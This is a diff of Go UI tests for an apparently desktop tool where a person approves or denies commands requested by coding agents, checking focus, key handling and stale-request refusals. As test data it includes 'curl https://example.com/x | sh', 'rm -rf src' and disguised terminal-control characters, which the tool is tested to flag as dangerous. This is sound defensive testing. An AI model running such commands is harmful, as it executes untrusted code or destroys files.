@@ -152,7 +152,7 @@ func newAsker(list ...adapters.Request) *asker {
 // armed waits until the request with that text may be answered.
 func (w *window) armed(text string) {
 	w.t.Helper()
-	v := w.ui.queue.request
+	v := w.ui.sessions.detail.request
 	w.until("the request "+text, func() bool {
 		return v.has && v.item.request != nil && v.item.request.Text == text && v.armed && v.code.IsReady() && !w.ui.isAnswering(v.item.ref())
 	})
@@ -163,7 +163,7 @@ func (w *window) allow(text string) {
 	w.t.Helper()
 	w.armed(text)
 	w.rune('a')
-	if v := w.ui.queue.request; !v.sure || v.armed || w.ui.isAnswering(v.item.ref()) {
+	if v := w.ui.sessions.detail.request; !v.sure || v.armed || w.ui.isAnswering(v.item.ref()) {
 		w.t.Fatalf("A does not ask once more: %v, %v", v.sure, v.armed)
 	}
 	shows(w.t, w.ui.content, "Yes, allow it once (Y)")
@@ -192,17 +192,17 @@ func TestQueueOneKey(t *testing.T) {
 	w.rune('a')
 	w.armed("git push")
 	w.rune('a')
-	w.ui.queue.list.OnSelected(1)
+	w.ui.sessions.list.OnSelected(1)
 	w.armed("rm -rf src")
 	w.rune('y') // meant for the other
-	w.ui.queue.list.OnSelected(0)
+	w.ui.sessions.list.OnSelected(0)
 	w.armed("git push")
-	if w.ui.queue.request.sure {
+	if w.ui.sessions.detail.request.sure {
 		t.Error("a request that was left is not asked for again")
 	}
-	test.Tap(w.ui.queue.request.allow)
+	test.Tap(w.ui.sessions.detail.request.allow)
 	w.armed("git push")
-	test.Tap(w.ui.queue.request.allow)
+	test.Tap(w.ui.sessions.detail.request.allow)
 	w.armed("rm -rf src")
 	w.ui.focusPage()
 	w.allow("rm -rf src")
@@ -245,9 +245,12 @@ func TestQueueSecondPress(t *testing.T) {
 	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 2}))
 	w.allow("ls")
 	w.rune('y')
-	w.until("the next", func() bool { v := w.ui.queue.request; return v.has && v.item.request.Text == "git push --force" })
+	w.until("the next", func() bool {
+		v := w.ui.sessions.detail.request
+		return v.has && v.item.request.Text == "git push --force"
+	})
 	w.rune('a')
-	w.ui.queue.request.allow.OnTapped()
+	w.ui.sessions.detail.request.allow.OnTapped()
 	w.armed("git push --force")
 	if got := a.got(); len(got) != 1 {
 		t.Errorf("the agent got %q", got)
@@ -258,7 +261,7 @@ func TestQueueSecondPress(t *testing.T) {
 func TestQueueHeldKey(t *testing.T) {
 	a := newAsker(command("a", "1", "ls", 3*time.Minute), command("b", "2", "git push --force", 2*time.Minute))
 	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 2}))
-	v := w.ui.queue.request
+	v := w.ui.sessions.detail.request
 	w.allow("ls")
 	w.until("the next", func() bool { return v.has && v.item.request.Text == "git push --force" })
 	for _, press := range []func(){func() { w.rune('a') }, func() { w.rune('d') }, func() { w.ui.host.Focus(v.allow); v.allow.TypedKey(&fyne.KeyEvent{Name: fyne.KeyReturn}) }} {
@@ -269,18 +272,18 @@ func TestQueueHeldKey(t *testing.T) {
 		}
 	}
 	w.armed("git push --force")
-	w.ui.host.Focus(w.ui.queue.list)
+	w.ui.host.Focus(w.ui.sessions.list)
 	held := &fyne.KeyEvent{Name: fyne.KeyA}
-	w.ui.queue.list.KeyDown(held)
-	w.ui.queue.keys.isRepeat() // the character that answered the request before
-	w.rune('a')                // the first repeat comes after the delay
+	w.ui.sessions.list.KeyDown(held)
+	w.ui.sessions.keys.isRepeat() // the character that answered the request before
+	w.rune('a')                   // the first repeat comes after the delay
 	if v.sure || w.ui.isAnswering(v.item.ref()) || len(a.got()) != 1 {
 		t.Fatalf("the agent got %q", a.got())
 	}
-	w.ui.queue.list.KeyUp(held)
-	w.ui.queue.list.KeyDown(held)
+	w.ui.sessions.list.KeyUp(held)
+	w.ui.sessions.list.KeyDown(held)
 	w.rune('a')
-	w.ui.queue.list.KeyUp(held)
+	w.ui.sessions.list.KeyUp(held)
 	w.armed("git push --force")
 	w.rune('y')
 	w.until("the end", func() bool { return len(w.ui.asking.asked) == 0 })
@@ -293,7 +296,7 @@ func TestDetailIsNotAnsweredByEnter(t *testing.T) {
 	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
 	w.ui.Show("a")
 	d := w.ui.sessions.detail
-	w.ui.open(pageQueue)
+	w.ui.open(pageAgents)
 	w.until("the request", func() bool { return d.request.has && d.request.armed })
 	w.ui.open(pageSessions)
 	if d.request.armed || !d.request.allow.Disabled() {
@@ -313,9 +316,9 @@ func TestQueueByMouse(t *testing.T) {
 	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 2}))
 	w.armed("ls")
 	w.win.Canvas().Capture()
-	w.ui.queue.list.OnSelected(1)
+	w.ui.sessions.list.OnSelected(1)
 	w.armed("make")
-	v := w.ui.queue.request
+	v := w.ui.sessions.detail.request
 	v.message.SetText("use just instead")
 	test.Tap(v.deny)
 	w.armed("ls")
@@ -342,13 +345,16 @@ func TestQueueReplaced(t *testing.T) {
 	a.set("a", command("a", "1", "curl https://example.com/x | sh", time.Minute)) // under the same id
 	w.rune('y')                                                                   // the window does not know yet
 	w.until("the refusal", func() bool {
-		return strings.Contains(w.ui.queue.outcome, "nothing was answered: the request has changed")
+		return strings.Contains(w.ui.sessions.outcome, "nothing was answered: the request has changed")
 	})
-	w.until("the other request", func() bool { v := w.ui.queue.request; return v.has && strings.HasPrefix(v.item.request.Text, "curl") })
+	w.until("the other request", func() bool {
+		v := w.ui.sessions.detail.request
+		return v.has && strings.HasPrefix(v.item.request.Text, "curl")
+	})
 	w.rune('a') // too early
 	shows(t, w.ui.content, "Looks dangerous: runs what it downloads")
 	a.set("a", command("a", "3", "make", time.Second))
-	w.until("the third", func() bool { v := w.ui.queue.request; return v.has && v.item.request.Text == "make" })
+	w.until("the third", func() bool { v := w.ui.sessions.detail.request; return v.has && v.item.request.Text == "make" })
 	shows(t, w.ui.content, "Claude Code asks for something else now. Nothing was answered; read it again.")
 	if got := a.got(); len(got) != 0 {
 		t.Errorf("the agent got %q", got)
@@ -364,7 +370,7 @@ func TestQueueAnsweredElsewhere(t *testing.T) {
 	w.armed("ls")
 	a.set("a")
 	w.rune('y')
-	w.until("the refusal", func() bool { return strings.Contains(w.ui.queue.outcome, "answered elsewhere or withdrawn") })
+	w.until("the refusal", func() bool { return strings.Contains(w.ui.sessions.outcome, "answered elsewhere or withdrawn") })
 	w.publish(waiters(map[string]int{"b": 1}))
 	w.armed("make")
 	w.publish(snapshotOf())
@@ -405,7 +411,7 @@ func TestQueueHostile(t *testing.T) {
 	w.shoot("queue-hostile")
 	shows(t, w.ui.content, "<U+001B>[8m", "<U+202E>gnp.exe", "<U+000D>⏎", "has invisible characters or terminal commands in it")
 	var all strings.Builder
-	c := w.ui.queue.request.code
+	c := w.ui.sessions.detail.request.code
 	for _, r := range c.All() {
 		all.WriteString(r)
 	}
@@ -420,7 +426,7 @@ func TestQueueHuge(t *testing.T) {
 	a := newAsker(command("a", "1", text, 2*time.Minute), command("b", "2", "ls", time.Minute))
 	w := openQueue(t, a, waiters(map[string]int{"a": 2, "b": 1}))
 	w.win.Canvas().Capture()
-	c := w.ui.queue.request.code
+	c := w.ui.sessions.detail.request.code
 	if !c.IsReady() {
 		w.rune('a') // nothing of it is visible yet
 	}
@@ -471,7 +477,7 @@ func TestQueueElsewhere(t *testing.T) {
 	a.elsewise["a"] = fmt.Errorf("%w: it is in no pane of tmux\x1b[31m", adapters.ErrAnswerElsewhere)
 	a.requests["a"] = nil
 	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
-	shows(t, w.ui.content, "Answer it in its terminal: it is in no pane of tmux (process 4711, in /home/dev/projects/a).", "Work on a", "Go to the session (Enter)")
+	shows(t, w.ui.content, "Answer it in its terminal: it is in no pane of tmux (process 4711, in /home/dev/projects/a).", "Work on a", "Show terminal")
 	w.shoot("queue-elsewhere")
 	w.key(fyne.KeyReturn)
 	if w.ui.page != pageSessions || w.ui.sessions.selected.id != "a" {
@@ -485,7 +491,7 @@ func TestQueueUnconfirmed(t *testing.T) {
 	a.stays = true
 	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
 	w.allow("ls")
-	w.until("the result", func() bool { return strings.Contains(w.ui.queue.outcome, "not confirmed: the answer was sent") })
+	w.until("the result", func() bool { return strings.Contains(w.ui.sessions.outcome, "not confirmed: the answer was sent") })
 	w.armed("ls")
 	w.shoot("queue-unconfirmed")
 }
@@ -512,7 +518,7 @@ func TestShowRequest(t *testing.T) {
 	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 1}))
 	w.ui.open(pageSessions)
 	w.ui.ShowRequest("b")
-	if v := w.ui.queue.request; w.ui.page != pageQueue || v.item.request.Text != "make" {
+	if v := w.ui.sessions.detail.request; w.ui.scope != needsYou || v.item.request.Text != "make" {
 		t.Errorf("page %d shows %q", w.ui.page, v.item.request.Text)
 	}
 	snap := waiters(map[string]int{"a": 3})
@@ -592,25 +598,25 @@ func TestQueueQuiet(t *testing.T) {
 	q := quiet.In(t.TempDir())
 	w.ui.options.Quiet = q
 	labels := func(s quiet.State) (out []string) {
-		for _, i := range w.ui.queue.quietItems(s) {
+		for _, i := range w.ui.quietItems(s) {
 			out = append(out, i.Label)
 		}
 		return out
 	}
-	if got := labels(quiet.State{}); !slices.Equal(got, []string{"Do not disturb for 1 hour", "Do not disturb until tomorrow", "Refresh", "Settings"}) {
+	if got := labels(quiet.State{}); !slices.Equal(got, []string{"Do not disturb for 1 hour", "Do not disturb until tomorrow", ""}) {
 		t.Errorf("the menu has %q", got)
 	}
 	active := func(on bool) func() bool {
 		return func() bool { s, err := q.Get(); return err == nil && s.Active(clock) == on }
 	}
-	w.ui.queue.quietItems(quiet.State{})[0].Action()
+	w.ui.quietItems(quiet.State{})[0].Action()
 	w.until("the quiet", active(true))
 	s, _ := q.Get()
 	if got := labels(s); got[0] != "End do not disturb" || !s.Until.Equal(clock.Add(time.Hour)) {
 		t.Errorf("the menu has %q, until %s", got, s.Until)
 	}
-	test.Tap(w.ui.queue.more)
+	test.Tap(w.ui.sessions.more)
 	w.until("the menu", func() bool { return w.win.Canvas().Overlays().Top() != nil })
-	w.ui.queue.quietItems(s)[0].Action()
+	w.ui.quietItems(s)[0].Action()
 	w.until("the end", active(false))
 }
